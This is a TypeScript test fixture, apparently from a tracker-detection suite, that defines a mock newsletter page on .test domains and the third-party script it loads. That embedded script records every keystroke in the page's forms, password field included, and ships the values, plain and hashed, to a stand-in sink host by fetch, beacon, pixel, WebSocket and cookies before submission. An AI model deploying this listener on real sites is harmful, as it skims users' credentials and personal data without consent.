import { html, json, script } from '../answers.ts';
import type { Site } from '../site.ts';
import { truth } from '../truth-builders.ts';

const PAGE = 'https://form-listener.test/';
const RECORDER = 'https://recorder-cdn.test/form-listener.js';
const SINK = 'https://recorder-sink.test';

/** Listens to every key in the forms of a page, and sends what was typed in every way there is. */
const LISTENER = `
  const sink = '${SINK}';
  const hex = async (name, text) => [...new Uint8Array(await crypto.subtle.digest(name, new TextEncoder().encode(text)))]
    .map((byte) => byte.toString(16).padStart(2, '0')).join('');
  const socket = new WebSocket('wss://recorder-sink.test/live');
  const opened = new Promise((resolve) => { socket.onopen = resolve; });
  document.addEventListener('keyup', ({ target }) => {
    if (!target.form) return;
    clearTimeout(target.timer);
    target.timer = setTimeout(() => send(target.type, target.name, target.value), 400);
  });
  async function send(type, name, value) {
    if (type === 'email') {
      fetch(sink + '/hash?em=' + await hex('SHA-256', value), { mode: 'no-cors' });
      fetch(sink + '/upper?em=' + (await hex('SHA-1', value)).toUpperCase(), { mode: 'no-cors' });
      fetch(sink + '/post', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ form: { email: value } }) });
      fetch(sink + '/packed', { method: 'POST', mode: 'no-cors', body: btoa('{"a":1,"mail":"' + value + '"}') });
      localStorage.setItem('draft', JSON.stringify({ mail: value }));
      document.cookie = 'draft=' + encodeURIComponent(value) + '; Path=/';
      await opened;
      socket.send('typed ' + value);
    } else {
      new Image().src = sink + '/pixel.gif?q=' + encodeURIComponent(value);
      fetch(sink + '/query?q=' + value, { mode: 'no-cors' });
      fetch(sink + '/path/' + value, { mode: 'no-cors' });
      navigator.sendBeacon(sink + '/beacon', value);
      // By field: what was typed into another one, perhaps not to its end, does not overwrite it.
      sessionStorage.setItem('draft ' + name, value);
    }
  }
  document.addEventListener('submit', () => fetch('/submitted'));`;

/** A page with forms, and a third party that listens to what is typed. Quick scans type nothing. */
export const formListener: Site = {
  name: 'form-listener',
  url: PAGE,
  summary:
    'A session recorder sends what is typed into forms, as it is and hashed, before anybody sends the form',
  routes: {
    'form-listener.test/': html(
      `<h1>Newsletter</h1><form action="/submitted" method="post">
         <input name="name" placeholder="Your name"><input type="email" name="mail"><textarea name="message"></textarea>
         <input type="search" name="q"><input type="hidden" name="token"><input type="password" name="secret">
         <button>Send</button></form><script src="${RECORDER}"></script>`,
    ),
    'form-listener.test/submitted': json({}),
    'recorder-cdn.test/form-listener.js': script(LISTENER),
    'recorder-sink.test/*': json({}),
  },
  sockets: { 'recorder-sink.test/live': { setCookie: [], talk: () => undefined } },
  truth: truth(PAGE),
};
